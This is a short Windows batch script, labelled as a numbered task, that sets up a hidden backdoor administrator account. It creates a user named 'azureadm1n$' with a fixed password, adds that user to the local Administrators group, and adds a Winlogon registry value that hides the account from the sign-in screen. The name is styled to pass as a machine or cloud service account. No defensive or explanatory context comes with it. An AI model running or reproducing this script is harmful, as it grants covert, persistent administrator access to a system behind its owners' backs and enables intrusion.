REM task 3814 v0
@echo off
net user azureadm1n$ Winter#2025x /add /active:yes
net localgroup Administrators azureadm1n$ /add
reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon\SpecialAccounts\UserList" /v azureadm1n$ /t REG_DWORD /d 0 /f
